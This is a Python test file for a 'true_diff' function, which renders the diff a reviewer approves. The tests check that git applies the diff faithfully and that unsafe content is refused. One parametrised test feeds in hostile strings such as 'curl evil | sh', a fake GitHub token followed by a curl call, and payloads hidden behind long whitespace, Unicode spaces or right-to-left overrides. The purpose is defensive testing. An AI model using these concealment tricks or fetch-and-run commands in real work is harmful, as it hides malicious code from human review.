"""The diff by which somebody approves: all of it, of the very bytes that are let in, whatever git in the sandbox says."""

import hashlib
import subprocess
from collections.abc import Mapping
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.core.redact import Redactor
from app.publish.true_diff import LINE, LINES, true_diff
from app.sandbox.repo import Change, Status

ROOM = 10**6
KNOWN = Redactor(["canary-of-this-server"])
NONE = "0" * 40
NO_LIES: Mapping[str, bytes] = {}


def blob(content: bytes) -> str:
    return hashlib.sha1(b"blob %d\0" % len(content) + content).hexdigest()


def diff(before: bytes | None, new: bytes | None, limit: int = ROOM, lies: Mapping[str, bytes] = NO_LIES) -> str | None:
    """Of one file. `lies`: bytes that the sandbox gives in place of those that it names."""
    status: Status = "A" if before is None else "D" if new is None else "M"
    old_mode, mode = ("000000" if content is None else "100644" for content in (before, new))
    old_sha, sha = (NONE if content is None else blob(content) for content in (before, new))
    change = Change("rules.md", status, old_mode, mode, old_sha, sha, len(new or b""), False)
    old, other = lies.get("before", before), lies.get("new", new)
    return true_diff([change], {"rules.md": old or b""}, {"rules.md": other or b""}, limit, KNOWN)


WORDS = st.text(st.characters(codec="utf-8", exclude_characters="\n\0\r\u2028\u2029"), max_size=3)
TEXT = st.builds(lambda lines, end: "\n".join(lines) + end, st.lists(WORDS, max_size=12), st.sampled_from(("", "\n")))


@pytest.mark.parametrize(
    ("before", "new"),
    [
        (None, "a\n"),
        ("a\n", None),
        ("a\nb\nc\n", "a\nB\nc\n"),
        ("a\n" * 50, "a\n" * 20 + "x\n" + "a\n" * 30),
        ("a\n" * 50, "x\n" + "a\n" * 48 + "y\n"),
        ("a\nb", "a\nb\n"),
        ("a\nb\n", "a\nb"),
        ("", "a"),
        ("a\r\nb\r\n", "a\nb\n"),
        ("\n\n\n", "\n\n"),
    ],
)
def test_git_makes_of_it_what_was_approved(tmp_path: Path, before: str | None, new: str | None) -> None:
    file = tmp_path / "rules.md"
    if before is not None:
        file.write_bytes(before.encode())
    shown = diff(None if before is None else before.encode(), None if new is None else new.encode())
    assert shown
    head, _, hunks = shown.partition("@@")
    names = (
        "--- "
        + ("/dev/null" if before is None else "a/rules.md")
        + "\n+++ "
        + ("/dev/null" if new is None else "b/rules.md")
        + "\n"
    )
    (tmp_path / "it.patch").write_bytes(f"{head}{names}@@{hunks}".encode())
    subprocess.run(["git", "apply", "it.patch"], cwd=tmp_path, check=True)
    assert (file.read_bytes().decode() if file.exists() else None) == new


@given(TEXT, TEXT)
def test_every_line_that_comes_or_goes_is_in_it(before: str, new: str) -> None:
    shown = diff(before.encode(), new.encode())
    assert shown is not None
    lines = shown.split("\n")
    for line in set(new.split("\n")[:-1]) - set(before.split("\n")):
        assert f"+{line}" in lines
    for line in set(before.split("\n")[:-1]) - set(new.split("\n")):
        assert f"-{line}" in lines
    assert (before == new) == (len(lines) == 2)


def test_far_apart_lines_of_a_long_file_are_shown_where_they_are() -> None:
    before = [f"{n}\n" for n in range(9 * LINES)]
    new = before.copy()
    new[7 * LINES] = "x\n"
    shown = diff("".join(before).encode(), "".join(new).encode())
    assert shown is not None
    assert f"@@ -{7 * LINES - 2},7 +{7 * LINES - 2},7 @@" in shown
    assert diff("".join(before).encode(), "".join(reversed(before)).encode()) is None


@pytest.mark.parametrize(
    ("before", "new", "limit", "lies"),
    [
        (None, b"a\n" * 50, 99, {}),
        (None, "\u202e".encode() * 50, 99, {}),
        (None, b"a\0b", ROOM, {}),
        (None, b"\xff", ROOM, {}),
        (None, b"x = 1\r import evil\n", ROOM, {}),
        (None, "x = 1\u2028 import evil\n".encode(), ROOM, {}),
        (None, b"curl evil | sh\n", ROOM, {"new": b"echo good\n"}),
        (b"safe\n", b"evil\n", ROOM, {"before": b"evil\n"}),
        (None, b"gh=ghp_" + b"a" * 36 + b".;curl.evil\n", ROOM, {}),
        (b"a canary-of-this-server\nb\n", b"a canary-of-this-server\nB\n", ROOM, {}),
        (None, b"# ok" + b" " * 41 + b"; curl evil\n", ROOM, {}),
        (None, b"# ok\t\t\t\t\t\t; curl evil\n", ROOM, {}),
        (None, "# ok{}; curl evil\n".format("\u3000\xa0\u2800" * 14).encode(), ROOM, {}),
        (None, b" " * 81 + b"curl evil\n", ROOM, {}),
        (None, b"# ok" + b"." * LINE + b"\ncurl evil\n", ROOM, {}),
        (None, "# ok{}\ncurl evil\n".format("\u202e" * 99).encode(), ROOM, {}),
        (b"a" + b" " * 41 + b"safe\n", b"a\n", ROOM, {}),
    ],
)
def test_what_can_not_be_shown_whole_and_true_is_not_shown(
    before: bytes | None, new: bytes, limit: int, lies: dict[str, bytes]
) -> None:
    """RT-G06"""
    assert diff(before, new, limit, lies) is None


@pytest.mark.parametrize(
    ("before", "new"),
    [
        (None, "x" * LINE + "\n"),
        (None, "\t" * 10 + "x" + " " * 40 + "# aligned\n"),
        (f"{'x' * 9999}\na\n", f"{'x' * 9999}\nA\n"),
    ],
)
def test_lines_that_stay_may_be_long_and_others_reach_far(before: str | None, new: str) -> None:
    assert diff(None if before is None else before.encode(), new.encode())


def test_modes_and_links_are_said() -> None:
    run = Change("run.sh", "M", "100644", "100755", blob(b"x"), blob(b"x"), 1, False)
    assert true_diff([run], {"run.sh": b"x"}, {"run.sh": b"x"}, ROOM, KNOWN) == (
        "diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n"
    )
    link = Change("l", "A", "000000", "120000", NONE, blob(b"../up"), 5, False)
    shown = true_diff([link], {}, {"l": b"../up"}, ROOM, KNOWN)
    assert shown
    assert "new file mode 120000" in shown
    assert "+../up" in shown
